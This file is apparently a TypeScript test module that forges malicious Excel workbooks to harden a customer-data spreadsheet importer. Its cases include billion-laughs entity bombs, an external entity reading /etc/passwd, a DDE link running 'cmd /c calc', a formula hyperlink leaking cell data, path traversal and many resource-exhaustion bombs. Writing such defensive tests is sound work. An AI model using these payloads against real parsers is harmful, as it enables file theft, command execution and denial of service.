import {
  cell,
  customerRow,
  customerRows,
  forgeWorkbook,
  relationships,
  SHEET,
  stringTable,
  withStrings,
  workbook,
  worksheet,
} from './forge-workbook.ts';
import type { Hostile } from './make-hostile.ts';

const MB = 1024 * 1024;
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]!} "${`&${'abcdefghi'[at]!};`.repeat(10)}">`).join('')}]>`;
const OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

function sheet(rows: string, around: Parameters<typeof worksheet>[1] = {}): Uint8Array {
  return forgeWorkbook({ [SHEET]: worksheet(rows, around) });
}

function sharedCell(ref: string, index: number): string {
  return `<c r="${ref}" t="s"><v>${index}</v></c>`;
}

/** A million customers whose ID is one and the same long string. */
function oneStringOften(): Uint8Array {
  const rows = [`<row r="1">${cell('A1', 'Account nummer')}${cell('B1', 'Postcode')}${cell('C1', 'Huisnummer')}</row>`];
  for (let row = 2; row < 200_000; row++)
    rows.push(
      `<row r="${row}">${sharedCell(`A${row}`, 0)}<c r="B${row}" t="inlineStr"><is><t>1000AB</t></is></c><c r="C${row}"><v>1</v></c></row>`,
    );
  return forgeWorkbook(withStrings(stringTable(`<si><t>${'K'.repeat(30_000)}</t></si>`), rows.join('')));
}

function huge(length: number): string {
  return 'K'.repeat(length);
}

/** What the cells and the XML around them say. */
export const HOSTILE_SHEETS: readonly Hostile[] = [
  {
    name: 'xml-billion-laughs',
    what: 'entities of entities in the sheet',
    make: () => forgeWorkbook({ [SHEET]: LAUGHS + worksheet(customerRows()).replace(/^<\?xml.*\?>\n/, '') }),
  },
  {
    name: 'xml-billion-laughs-workbook',
    what: 'entities of entities in the workbook part',
    make: () =>
      forgeWorkbook({
        'xl/workbook.xml':
          LAUGHS + workbook('<sheet name="&j;" sheetId="1" r:id="rId1"/>').replace(/^<\?xml.*\?>\n/, ''),
      }),
  },
  {
    name: 'xml-external-entity',
    what: 'an entity that is a file of the machine',
    make: () =>
      forgeWorkbook({
        [SHEET]: OUTSIDE + worksheet(customerRow(1).replace('K1', '&x;')).replace(/^<\?xml.*\?>\n/, ''),
      }),
  },
  {
    name: 'xml-external-entity-strings',
    what: 'the same in the shared strings',
    make: () =>
      forgeWorkbook(
        withStrings(
          `${OUTSIDE}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>`,
          `<row r="1">${sharedCell('A1', 0)}</row>`,
        ),
      ),
  },
  {
    name: 'xml-undeclared-entity',
    what: 'an entity that nobody declared',
    make: () => sheet(customerRows().replace('K2', '&passwd;')),
  },
  {
    name: 'xml-deep',
    what: 'a hundred thousand elements in each other',
    make: () => sheet('<x>'.repeat(100_000) + '</x>'.repeat(100_000)),
  },
  {
    name: 'xml-deep-workbook',
    what: 'the same in the workbook part',
    make: () => forgeWorkbook({ 'xl/workbook.xml': workbook('<x>'.repeat(100_000)) }),
  },
  {
    name: 'xml-attributes',
    what: 'a tag with a million attributes',
    make: () =>
      forgeWorkbook({
        'xl/styles.xml': `<styleSheet ${Array.from({ length: 300_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
      }),
  },
  {
    name: 'xml-attribute-endless',
    what: 'an attribute of 100 MB without an end',
    make: () => forgeWorkbook({ [SHEET]: worksheet(`<row r="1"><c r="${huge(100 * MB)}`) }),
  },
  {
    name: 'xml-comment-endless',
    what: 'a comment that never ends',
    make: () => sheet(`${customerRows()}<!-- ${huge(8 * MB)}`),
  },
  {
    name: 'xml-not-closed',
    what: 'elements that are not closed',
    make: () => forgeWorkbook({ [SHEET]: worksheet(customerRows()).replace('</sheetData></worksheet>', '') }),
  },
  {
    name: 'xml-utf16',
    what: 'the sheet in UTF-16 with a mark',
    make: () =>
      forgeWorkbook({
        [SHEET]: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(worksheet(customerRows()), 'utf16le')]),
      }),
  },
  {
    name: 'xml-utf16-unmarked',
    what: 'the sheet in UTF-16 without a mark',
    make: () => forgeWorkbook({ [SHEET]: Buffer.from(worksheet(customerRows()), 'utf16le') }),
  },
  {
    name: 'xml-utf7',
    what: 'the sheet says it is UTF-7',
    make: () => forgeWorkbook({ [SHEET]: worksheet(customerRows()).replace('UTF-8', 'UTF-7') }),
  },
  { name: 'xml-nul', what: 'NUL bytes in cells', make: () => sheet(customerRows().replaceAll('K', 'K\0')) },
  {
    name: 'xml-bad-utf8',
    what: 'bytes that are no UTF-8',
    make: () =>
      forgeWorkbook({ [SHEET]: Buffer.from(worksheet(customerRows().replaceAll('K', '\xff\xfe')), 'latin1') }),
  },
  { name: 'strings-one-often', what: 'one string of 30,000 characters in 200,000 cells', make: oneStringOften },
  {
    name: 'strings-huge',
    what: 'a string of 100 MB',
    make: () =>
      forgeWorkbook(
        withStrings(stringTable(`<si><t>${huge(100 * MB)}</t></si>`), `<row r="1">${sharedCell('A1', 0)}</row>`),
      ),
  },
  {
    name: 'strings-index-lie',
    what: 'a cell that points at string 4,000,000,000',
    make: () =>
      forgeWorkbook(
        withStrings(stringTable('<si><t>x</t></si>'), `<row r="1">${sharedCell('A1', 4_000_000_000)}</row>`),
      ),
  },
  {
    name: 'strings-rich-bomb',
    what: 'a string of a hundred thousand runs',
    make: () =>
      forgeWorkbook(
        withStrings(
          stringTable(`<si>${'<r><t>K</t></r>'.repeat(100_000)}</si>`),
          `<row r="1">${sharedCell('A1', 0)}</row>`,
        ),
      ),
  },
  { name: 'column-bomb', what: 'a row with all 16,384 columns, a thousand times', make: columnBomb },
  {
    name: 'column-beyond',
    what: 'a cell in column XFE',
    make: () => sheet(customerRows() + customerRow(30, cell('XFE30', 'x'))),
  },
  {
    name: 'column-nonsense',
    what: 'a cell named ZZZZZZZZ99999999999',
    make: () => sheet(customerRows() + customerRow(30, cell('ZZZZZZZZ99999999999', 'x'))),
  },
  {
    name: 'row-beyond',
    what: 'row 4,294,967,297',
    make: () => sheet(`${customerRows()}<row r="4294967297">${cell('A4294967297', 'x')}</row>`),
  },
  {
    name: 'row-negative',
    what: 'row -1 and row 0',
    make: () => sheet(`<row r="-1">${cell('A1', 'x')}</row><row r="0"/>`),
  },
  { name: 'row-back', what: 'rows that go back', make: () => sheet(`${customerRows()}${customerRow(3)}`) },
  {
    name: 'merge-bomb',
    what: 'half a million merged areas',
    make: () =>
      sheet(customerRows(), {
        after: `<mergeCells>${Array.from({ length: 500_000 }, (_, at) => `<mergeCell ref="A${at + 1}:XFD1048576"/>`).join('')}</mergeCells>`,
      }),
  },
  {
    name: 'cols-bomb',
    what: 'a million column formats',
    make: () =>
      sheet(customerRows(), { before: `<cols>${'<col min="1" max="16384" width="9"/>'.repeat(500_000)}</cols>` }),
  },
  {
    name: 'styles-bomb',
    what: 'styles of 30 MB',
    make: () =>
      forgeWorkbook({
        'xl/styles.xml': `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>${'<xf numFmtId="14"/>'.repeat(1_500_000)}</cellXfs></styleSheet>`,
      }),
  },
  {
    name: 'sheets-bomb',
    what: 'fifty thousand sheets',
    make: () =>
      forgeWorkbook({
        'xl/workbook.xml': workbook(
          Array.from({ length: 50_000 }, (_, at) => `<sheet name="s${at}" sheetId="${at}" r:id="rId1"/>`).join(''),
        ),
      }),
  },
  {
    name: 'relationships-bomb',
    what: 'two hundred thousand relationships',
    make: () =>
      forgeWorkbook({
        'xl/_rels/workbook.xml.rels': relationships(['worksheet', 'worksheets/sheet1.xml']).replace(
          /<Relationship .*?\/>/,
          (link) => link.repeat(200_000),
        ),
      }),
  },
  {
    name: 'names-bomb',
    what: 'two hundred thousand defined names',
    make: () =>
      forgeWorkbook({
        'xl/workbook.xml': workbook(
          '<sheet name="Klanten" sheetId="1" r:id="rId1"/>',
          `<definedNames>${Array.from({ length: 200_000 }, (_, at) => `<definedName name="n${at}">A1</definedName>`).join('')}</definedNames>`,
        ),
      }),
  },
  { name: 'proto-names', what: 'headers and a sheet named __proto__ and constructor', make: protoNames },
  {
    name: 'formula',
    what: 'a formula in the postcode',
    make: () =>
      sheet(
        customerRows() + customerRow(30, '<c r="D30"><f>HYPERLINK("http://example.invalid/"&amp;A2)</f><v>0</v></c>'),
      ),
  },
  {
    name: 'formula-dde',
    what: 'a DDE call',
    make: () =>
      forgeWorkbook({
        ...external('externalLink', 'xl/externalLinks/externalLink1.xml'),
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
  },
  {
    name: 'macros',
    what: 'a macro project',
    make: () => forgeWorkbook({ ...external('vbaProject', 'xl/vbaProject.bin'), 'xl/vbaProject.bin': 'Attribut' }),
  },
  {
    name: 'macro-sheet',
    what: 'an Excel 4 macro sheet',
    make: () =>
      forgeWorkbook({
        ...external('xlMacrosheet', 'xl/macrosheets/sheet1.xml'),
        'xl/macrosheets/sheet1.xml': worksheet(''),
      }),
  },
  {
    name: 'external-link',
    what: 'a link that fetches something',
    make: () =>
      forgeWorkbook({
        'xl/worksheets/_rels/sheet1.xml.rels': relationships([
          'hyperlink',
          'http://example.invalid/',
          ' TargetMode="External"',
        ]),
      }),
  },
  {
    name: 'attached-template',
    what: 'a template on another machine',
    make: () =>
      forgeWorkbook({
        'xl/_rels/workbook.xml.rels': relationships(
          ['worksheet', 'worksheets/sheet1.xml'],
          ['attachedTemplate', '\\\\host\\share\\x.dotm', ' TargetMode="External"'],
        ),
      }),
  },
  {
    name: 'relationship-traversal',
    what: 'a sheet at ../../../../etc/passwd',
    make: () =>
      forgeWorkbook({ 'xl/_rels/workbook.xml.rels': relationships(['worksheet', '../../../../../etc/passwd']) }),
  },
  {
    name: 'relationship-loop',
    what: 'the workbook is its own sheet',
    make: () => forgeWorkbook({ 'xl/_rels/workbook.xml.rels': relationships(['worksheet', 'workbook.xml']) }),
  },
];

function external(type: string, target: string): Record<string, string> {
  return {
    'xl/_rels/workbook.xml.rels': relationships(
      ['worksheet', 'worksheets/sheet1.xml'],
      [type, target.replace(/^xl\//, '')],
    ),
  };
}

function columnBomb(): Uint8Array {
  const cells = (row: number): string => Array.from({ length: 16_384 }, () => `<c><v>${row}</v></c>`).join('');
  return sheet(Array.from({ length: 1000 }, (_, at) => `<row r="${at + 1}">${cells(at)}</row>`).join(''));
}

function protoNames(): Uint8Array {
  const names = ['__proto__', 'constructor', 'hasOwnProperty', 'Account nummer', 'Postcode', 'Huisnummer'];
  const header = names.map((name, at) => cell(`${'ABCDEF'[at]!}1`, name)).join('');
  const rows = Array.from({ length: 20 }, (_, at) => {
    const row = at + 2;
    return `<row r="${row}">${['__proto__', 'constructor', 'toString', `K${row}`, '1000AB', String(row)].map((text, column) => cell(`${'ABCDEF'[column]!}${row}`, text)).join('')}</row>`;
  });
  return forgeWorkbook({
    'xl/workbook.xml': workbook('<sheet name="__proto__" sheetId="1" r:id="rId1"/>'),
    [SHEET]: worksheet(`<row r="1">${header}</row>${rows.join('')}`),
  });
}
